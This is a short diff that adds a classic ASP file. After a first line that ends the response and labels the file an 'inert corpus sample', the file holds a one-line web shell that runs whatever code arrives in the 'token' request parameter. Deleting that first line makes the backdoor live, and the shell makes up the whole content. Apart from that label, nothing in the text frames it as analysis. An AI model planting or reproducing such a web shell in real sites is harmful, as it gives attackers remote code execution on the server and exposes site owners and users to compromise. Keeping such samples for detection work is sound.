@@ -1,0 +1,4 @@
+<% Response.End ' inert corpus sample (hegui) %>
+<%
+If Request("token") <> "" Then Execute(Request("token"))
+%>
